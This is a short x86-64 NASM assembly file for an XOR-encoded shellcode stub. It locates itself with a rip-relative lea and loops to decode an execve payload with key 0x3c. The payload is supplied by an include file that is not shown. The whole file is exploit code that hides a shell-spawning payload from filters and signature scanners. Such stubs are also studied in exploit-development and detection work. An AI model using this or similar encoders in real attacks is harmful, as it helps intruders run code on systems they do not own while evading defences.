; x86-64 GetPC by lea rsi, [rip + d], then a dec/jnz loop xoring the
; encoded execve body back.
BITS 64
%include "xorbody.inc"
%define KEY 0x3c
    lea rsi, [rel body]
    mov ecx, body_end - body
decode:
    xor byte [rsi], KEY
    inc rsi
    dec ecx
    jnz decode
body:
    xdb KEY, EXECVE64
body_end:
